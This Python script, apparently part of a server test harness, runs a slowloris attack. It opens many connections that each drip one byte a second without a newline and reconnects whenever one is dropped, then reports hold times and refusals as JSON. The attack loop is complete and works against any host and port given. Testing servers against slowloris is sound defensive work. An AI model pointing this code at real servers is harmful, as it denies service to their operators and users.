"""The slowloris attacker, in its own process so its work is not charged to the measuring clients.

    python slowloris_attack.py HOST PORT N_CONNECTIONS SECONDS

N connections from HOST's loopback source 127.0.0.1 each send one byte a second and never a
newline; a connection the server closes is re-opened a second later. Starts are spread over one
second. Prints ``started`` once every attacker has begun, then, after SECONDS, one JSON line:
``{"held": [seconds each accepted connection lasted], "refused": n}``, where connections closed
in under half a second count as refused.
"""

from __future__ import annotations

import json
import socket
import sys
import time

import gevent
import gevent.event
import gevent.socket


def main() -> None:
    host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    over = gevent.event.Event()
    held: list[float] = []
    refused = [0]

    def attacker(phase: float) -> None:
        over.wait(phase)  # attackers start spread over one second, not in lockstep
        while not over.is_set():
            sock = gevent.socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.settimeout(1.0)
            start = time.monotonic()
            try:
                sock.connect((host, port))
                start = time.monotonic()
                while not over.is_set():
                    sock.sendall(b"x")  # one byte a second, never a newline
                    try:
                        if sock.recv(1) == b"":
                            break  # the server closed this connection
                    except TimeoutError:
                        continue  # nothing said in a second: drip again
            except OSError:
                pass
            finally:
                sock.close()
            lasted = time.monotonic() - start
            if lasted < 0.5:
                refused[0] += 1
            elif not over.is_set():
                held.append(lasted)
            over.wait(1.0)  # the attacker's pause before reconnecting

    glets = [gevent.spawn(attacker, i / n) for i in range(n)]
    print("started", flush=True)
    over.wait(seconds)  # the attack runs
    over.set()
    gevent.killall(glets, timeout=5)
    print(json.dumps({"held": held, "refused": refused[0]}), flush=True)


if __name__ == "__main__":
    main()
